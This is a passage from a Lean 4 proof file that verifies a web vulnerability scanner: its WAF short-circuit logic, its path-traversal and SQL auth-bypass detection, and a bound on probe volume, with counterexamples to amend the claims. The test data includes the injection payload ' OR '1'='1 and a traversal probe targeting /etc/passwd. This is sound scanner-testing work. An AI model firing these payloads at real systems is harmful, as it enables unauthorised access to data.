        indicators := ["✅ WAF/Firewall blocked the request"],
        notes := "PROTECTED: Request was blocked by security controls" } := by
  have hmem : p ∈ nosqlInjection.wafIndicators := by
    have hall : ∀ x ∈ commonWafIndicators, x ∈ nosqlInjection.wafIndicators := by decide
    exact hall p hp
  have hany := any_contains_of_mem nosqlInjection.wafIndicators (lowerStr b) p hmem hc
  have hwaf : nosqlInjection.isWAFBlocked ⟨s, b, hdrs⟩ b = true := by
    simp [nosqlInjection.isWAFBlocked, statusOr_true s hs, hany]
  simp [nosqlInjection.analyzeResponse, hwaf, initResult]

theorem headerInjection_analyze_waf (s : Nat) (b : String) (hdrs : List (String × String))
    (payload : String) (os : Option Nat) (hs : s = 403 ∨ s = 406 ∨ s = 429)
    (p : String) (hp : p ∈ commonWafIndicators) (hc : containsStr (lowerStr b) p = true) :
    headerInjection.analyzeResponse ⟨s, b, hdrs⟩ payload os =
      { vulnerable := false, confidence := "low",
        indicators := ["✅ WAF/Firewall blocked the request"],
        notes := "PROTECTED: Header manipulation was blocked" } := by
  have hmem : p ∈ headerInjection.wafIndicators := by
    have hall : ∀ x ∈ commonWafIndicators, x ∈ headerInjection.wafIndicators := by decide
    exact hall p hp
  have hany := any_contains_of_mem headerInjection.wafIndicators (lowerStr b) p hmem hc
  have hwaf : headerInjection.isWAFBlocked ⟨s, b, hdrs⟩ b = true := by
    simp [headerInjection.isWAFBlocked, statusOr_true s hs, hany]
  simp [headerInjection.analyzeResponse, hwaf, initResult]

/-- C1 counterexample: the claim says every one of the ten analyzers returns
confidence `high` on a WAF-blocked response, but the header-injection
analyzer's WAF branch never sets the confidence: at status 403 with body
`access denied` it returns vulnerable `false` with confidence `low`. -/
theorem C1_counterexample :
    (headerInjection.analyzeResponse ⟨403, "access denied", []⟩ "x" none).vulnerable = false ∧
    (headerInjection.analyzeResponse ⟨403, "access denied", []⟩ "x" none).confidence = "low" := by
  decide

/-- C1 (amended): for every response with status in \x7b403, 406, 429\x7d whose
body contains a common WAF block-indicator phrase, the SQL, XSS,
command-injection, path-traversal and rate-limiting analyzers short-circuit
to vulnerable `false` with confidence `high` (the first four with a
blocked-request indicator); the NoSQL and header-injection analyzers
short-circuit to vulnerable `false` but leave confidence `low`; and the
malformed-payload, HTTP-method and payload-size analyzers have no WAF
short-circuit at all (at the canonical blocked response they fall through
to their other checks, returning confidence `low`). -/
theorem C1_waf_short_circuit (s : Nat) (b : String) (hdrs : List (String × String))
    (payload : String) (os : Option Nat) (rt : Option Nat)
    (hs : s = 403 ∨ s = 406 ∨ s = 429)
    (p : String) (hp : p ∈ commonWafIndicators) (hc : containsStr (lowerStr b) p = true) :
    ((sql.analyzeResponse ⟨s, b, hdrs⟩ payload os).vulnerable = false ∧
     (sql.analyzeResponse ⟨s, b, hdrs⟩ payload os).confidence = "high" ∧
     "✅ WAF/Firewall blocked the malicious request" ∈
       (sql.analyzeResponse ⟨s, b, hdrs⟩ payload os).indicators) ∧
    ((xss.analyzeResponse ⟨s, b, hdrs⟩ payload os).vulnerable = false ∧
     (xss.analyzeResponse ⟨s, b, hdrs⟩ payload os).confidence = "high" ∧
     "✅ WAF/Firewall blocked the malicious request" ∈
       (xss.analyzeResponse ⟨s, b, hdrs⟩ payload os).indicators) ∧
    ((commandInjection.analyzeResponse ⟨s, b, hdrs⟩ payload os rt).vulnerable = false ∧
     (commandInjection.analyzeResponse ⟨s, b, hdrs⟩ payload os rt).confidence = "high" ∧
     "✅ WAF/Firewall blocked the malicious request" ∈
       (commandInjection.analyzeResponse ⟨s, b, hdrs⟩ payload os rt).indicators) ∧
    ((pathTraversal.analyzeResponse ⟨s, b, hdrs⟩ payload os).vulnerable = false ∧
     (pathTraversal.analyzeResponse ⟨s, b, hdrs⟩ payload os).confidence = "high" ∧
     "✅ WAF/Firewall blocked the malicious request" ∈
       (pathTraversal.analyzeResponse ⟨s, b, hdrs⟩ payload os).indicators) ∧
    ((rateLimiting.analyzeResponse ⟨s, b, hdrs⟩ payload os rt).vulnerable = false ∧
     (rateLimiting.analyzeResponse ⟨s, b, hdrs⟩ payload os rt).confidence = "high") ∧
    ((nosqlInjection.analyzeResponse ⟨s, b, hdrs⟩ payload os).vulnerable = false ∧
     (nosqlInjection.analyzeResponse ⟨s, b, hdrs⟩ payload os).confidence = "low") ∧
    ((headerInjection.analyzeResponse ⟨s, b, hdrs⟩ payload os).vulnerable = false ∧
     (headerInjection.analyzeResponse ⟨s, b, hdrs⟩ payload os).confidence = "low") ∧
    ((malformedPayload.analyzeResponse ⟨403, "access denied", []⟩ "x" none).vulnerable = false ∧
     (malformedPayload.analyzeResponse ⟨403, "access denied", []⟩ "x" none).confidence = "low") ∧
    ((httpMethodTest.analyzeResponse ⟨403, "access denied", []⟩ "PUT" none).vulnerable = false ∧
     (httpMethodTest.analyzeResponse ⟨403, "access denied", []⟩ "PUT" none).confidence = "low") ∧
    ((payloadSize.analyzeResponse ⟨403, "access denied", []⟩ "500_chars" none none).vulnerable = false ∧
     (payloadSize.analyzeResponse ⟨403, "access denied", []⟩ "500_chars" none none).confidence = "low") := by
  refine ⟨?_, ?_, ?_, ?_, ?_, ?_, ?_, ?_, ?_, ?_⟩
  · rw [sql_analyze_waf s b hdrs payload os hs p hp hc]
    exact ⟨rfl, rfl, by simp⟩
  · rw [xss_analyze_waf s b hdrs payload os hs p hp hc]
    exact ⟨rfl, rfl, by simp⟩
  · rw [commandInjection_analyze_waf s b hdrs payload os rt hs p hp hc]
    exact ⟨rfl, rfl, by simp⟩
  · rw [pathTraversal_analyze_waf s b hdrs payload os hs p hp hc]
    exact ⟨rfl, rfl, by simp⟩
  · exact rateLimiting_analyze_waf s b hdrs payload os rt hs p hp hc
  · rw [nosqlInjection_analyze_waf s b hdrs payload os hs p hp hc]
    exact ⟨rfl, rfl⟩
  · rw [headerInjection_analyze_waf s b hdrs payload os hs p hp hc]
    exact ⟨rfl, rfl⟩
  · exact ⟨by decide, by decide⟩
  · exact ⟨by decide, by decide⟩
  · exact ⟨by decide, by decide⟩

/-- C1 witness: the amended statement at status 403 and body
`access denied`. -/
theorem C1_waf_short_circuit_witness :
    (sql.analyzeResponse ⟨403, "access denied", []⟩ "x" none).vulnerable = false ∧
    (sql.analyzeResponse ⟨403, "access denied", []⟩ "x" none).confidence = "high" ∧
    (headerInjection.analyzeResponse ⟨403, "access denied", []⟩ "x" none).confidence = "low" := by
  have h := C1_waf_short_circuit 403 "access denied" [] "x" none none (Or.inl rfl)
      "access denied" (by decide) (by decide)
  exact ⟨h.1.1, h.1.2.1, (h.2.2.2.2.2.2.1).2⟩

/-! ### Claim C6: path traversal baseline 404 → probe 200 -/

/-- C6 counterexample: the claim as stated quantifies over every response
with status 200, but a 200 body carrying the Cloudflare edge fingerprint
takes the WAF short-circuit first: the analyzer returns vulnerable `false`
with confidence `high`, not vulnerable `true` with confidence `medium`. -/
theorem C6_counterexample :
    (pathTraversal.analyzeResponse ⟨200, "Served by Cloudflare Ray ID: 8a1b2c", []⟩
        "../../../etc/passwd" (some 404)).vulnerable = false ∧
    (pathTraversal.analyzeResponse ⟨200, "Served by Cloudflare Ray ID: 8a1b2c", []⟩
        "../../../etc/passwd" (some 404)).confidence = "high" := by
  decide

/-- C6 (amended): for every response with status 200 whose body does not
contain the Cloudflare edge fingerprint, analyzed by the path-traversal
analyzer against baseline status 404, the result is vulnerable `true` with
confidence `medium`, with the behavior-change indicator recorded. -/
theorem C6_pathTraversal_404_to_200 (b : String) (hdrs : List (String × String)) (payload : String)
    (hcf : containsStr (lowerStr b) "cloudflare ray id" = false) :
    (pathTraversal.analyzeResponse ⟨200, b, hdrs⟩ payload (some 404)).vulnerable = true ∧
    (pathTraversal.analyzeResponse ⟨200, b, hdrs⟩ payload (some 404)).confidence = "medium" ∧
    "⚠️ File found after path traversal" ∈
      (pathTraversal.analyzeResponse ⟨200, b, hdrs⟩ payload (some 404)).indicators := by
  have hwaf : pathTraversal.isWAFBlocked ⟨200, b, hdrs⟩ b = false := by
    simp [pathTraversal.isWAFBlocked, hcf]
  simp [pathTraversal.analyzeResponse, hwaf]

/-- C6 witness: the amended statement at a concrete body. -/
theorem C6_pathTraversal_404_to_200_witness :
    (pathTraversal.analyzeResponse ⟨200, "welcome home", []⟩ "../../../etc/passwd"
        (some 404)).vulnerable = true ∧
    (pathTraversal.analyzeResponse ⟨200, "welcome home", []⟩ "../../../etc/passwd"
        (some 404)).confidence = "medium" := by
  have h := C6_pathTraversal_404_to_200 "welcome home" [] "../../../etc/passwd" (by decide)
  exact ⟨h.1, h.2.1⟩

/-! ### Claim C7: the SQL auth-bypass scenario -/

/-- C7: given the payload `' OR '1'='1` and a 200 response whose body
contains `"token":"abc"` with no WAF signal, the SQL analyzer (with its
default absent baseline) reports vulnerable `true`, confidence `high`, and
an authentication-bypass indicator. -/
theorem C7_sql_auth_bypass (b : String) (hdrs : List (String × String))
    (htok : containsStr b "\"token\":\"abc\"" = true)
    (hcf1 : containsStr (lowerStr b) "cloudflare ray id" = false)
    (hcf2 : containsStr (lowerStr b) "cf-ray" = false) :
    (sql.analyzeResponse ⟨200, b, hdrs⟩ "\x27 OR \x271\x27=\x271" none).vulnerable = true ∧
    (sql.analyzeResponse ⟨200, b, hdrs⟩ "\x27 OR \x271\x27=\x271" none).confidence = "high" ∧
    "⚠️ Potential authentication bypass" ∈
      (sql.analyzeResponse ⟨200, b, hdrs⟩ "\x27 OR \x271\x27=\x271" none).indicators := by
  have h2 : containsStr b "token" = true :=
    containsStr_trans b "\"token\":\"abc\"" "token" htok (by decide)
  have h3 : containsStr (lowerStr b) "token" = true := by
    have := containsStr_lower b "token" h2
    simpa [show lowerStr "token" = "token" from by decide] using this
  have h5 : reSearch (litREL "token".toList) (lowerStr b).toList = true :=
    reSearch_lit_of_infix _ _ ((containsStr_iff _ _).mp h3)
  have h6 : testPat sql.authBodyPat b = true := by
    show reSearch sql.authBodyPat.re (lowerStr b).toList = true
    exact reSearch_alts_of_mem _ (litRE "token") _
      (List.mem_cons_of_mem _ (List.mem_cons_of_mem _ (List.mem_cons_of_mem _
        (List.mem_cons_self _ _)))) h5
  have hwaf : sql.isWAFBlocked ⟨200, b, hdrs⟩ b = false := by
    simp [sql.isWAFBlocked, hcf1, hcf2]
  have hpay : containsStr "\x27 OR \x271\x27=\x271" "OR \x271\x27=\x271" = true := by decide
  cases hv : testPat sql.verbosePat b <;>
    simp [sql.analyzeResponse, hwaf, hpay, h6, hv]

/-- C7 witness: the scenario at the concrete login response body. -/
theorem C7_sql_auth_bypass_witness :
    (sql.analyzeResponse ⟨200, "\x7b\"token\":\"abc\"\x7d", []⟩
        "\x27 OR \x271\x27=\x271" none).vulnerable = true ∧
    (sql.analyzeResponse ⟨200, "\x7b\"token\":\"abc\"\x7d", []⟩
        "\x27 OR \x271\x27=\x271" none).confidence = "high" := by
  have h := C7_sql_auth_bypass "\x7b\"token\":\"abc\"\x7d" [] (by decide) (by decide) (by decide)
  exact ⟨h.1, h.2.1⟩

/-! ### Claim C5: the probe-volume bound of the orchestrator -/

theorem take_len_le {α : Type} (l : List α) (n : Nat) : (l.take n).length ≤ n := by
  rw [List.length_take]
  exact Nat.min_le_left _ _

/-- Per endpoint: one selected analyzer, three payloads, two variants. -/
theorem scanEndpoint_tests_len_le (net : Net) (e : Endpoint) (opts : ScanOptions) (t : String)
    (h1 : opts.scanTypes = some [t]) (h2 : opts.maxPayloads = some 3) :
    (scanEndpoint net e opts).tests.length ≤ 6 := by
  have hsel : (scannersToUse opts.scanTypes).length ≤ 1 := by
    rw [h1]
    exact filterSingletonLenLe scanners t (by decide)
  have hmax : effMaxPayloads opts.maxPayloads = 3 := by rw [h2]; rfl
  show ((scannersToUse opts.scanTypes).flatMap (fun scanner =>
      (scanner.getPayloads.take (effMaxPayloads opts.maxPayloads)).flatMap (fun payload =>
        ((injectPayload e payload (effInjectLocation opts.injectLocation)).take 2).map
          (fun v => runTest net scanner (getBaseline net e) payload v)))).length ≤ 6
  simp only [hmax]
  have hinner : ∀ scanner ∈ scannersToUse opts.scanTypes,
      ((scanner.getPayloads.take 3).flatMap (fun payload =>
        ((injectPayload e payload (effInjectLocation opts.injectLocation)).take 2).map
          (fun v => runTest net scanner (getBaseline net e) payload v))).length ≤ 6 := by
    intro scanner _
    have hb : ∀ payload ∈ scanner.getPayloads.take 3,
        (((injectPayload e payload (effInjectLocation opts.injectLocation)).take 2).map
          (fun v => runTest net scanner (getBaseline net e) payload v)).length ≤ 2 := by
      intro payload _
      rw [List.length_map]
      exact take_len_le _ 2
    calc ((scanner.getPayloads.take 3).flatMap _).length
        ≤ (scanner.getPayloads.take 3).length * 2 := flatMapLenLe _ _ 2 hb
      _ ≤ 3 * 2 := Nat.mul_le_mul_right 2 (take_len_le _ 3)
      _ = 6 := rfl
  calc ((scannersToUse opts.scanTypes).flatMap _).length
      ≤ (scannersToUse opts.scanTypes).length * 6 := flatMapLenLe _ _ 6 hinner
    _ ≤ 1 * 6 := Nat.mul_le_mul_right 6 hsel
    _ = 6 := rfl

/-- C5: with `scanTypes` restricted to a single type and `maxPayloads = 3`,
`runScan` over N endpoints produces at most N × 3 × 2 test records in total,
ERROR records included: payload lists are cut to the first 3 entries and
injection variants to the first 2, and each probe pushes exactly one
record. -/
theorem C5_runScan_record_bound (net : Net) (endpoints : List Endpoint) (t : String)
    (opts : ScanOptions) (h1 : opts.scanTypes = some [t]) (h2 : opts.maxPayloads = some 3) :
    (runScan net endpoints opts).summary.totalTests ≤ endpoints.length * 3 * 2 := by
  have hbound : ∀ e ∈ endpoints, (scanEndpoint net e opts).summary.total ≤ 6 := by
    intro e _
    show (scanEndpoint net e opts).tests.length ≤ 6
    exact scanEndpoint_tests_len_le net e opts t h1 h2
  show ((endpoints.map (fun e => scanEndpoint net e opts)).map
      (fun r => r.summary.total)).sum ≤ endpoints.length * 3 * 2
  rw [List.map_map]
  have := mapSumLe endpoints (fun e => (scanEndpoint net e opts).summary.total) 6 hbound
  calc ((endpoints.map fun e => (scanEndpoint net e opts).summary.total)).sum
      ≤ endpoints.length * 6 := this
    _ = endpoints.length * 3 * 2 := by ring

/-- C5 witness: the bound applied to a concrete one-endpoint scan. -/
theorem C5_runScan_record_bound_witness :
    (runScan (fun _ => .ok ⟨200, "ok", []⟩ 1)
        [{ name := "", method := "GET", url := "http://x", headers := [], body := .nul,
           queryParams := [] }]
        { scanTypes := some ["SQL Injection"], maxPayloads := some 3, injectLocation := none
        }).summary.totalTests ≤ 6 :=
  C5_runScan_record_bound (fun _ => .ok ⟨200, "ok", []⟩ 1)
    [{ name := "", method := "GET", url := "http://x", headers := [], body := .nul,
       queryParams := [] }]
    "SQL Injection"
    { scanTypes := some ["SQL Injection"], maxPayloads := some 3, injectLocation := none }
    rfl rfl
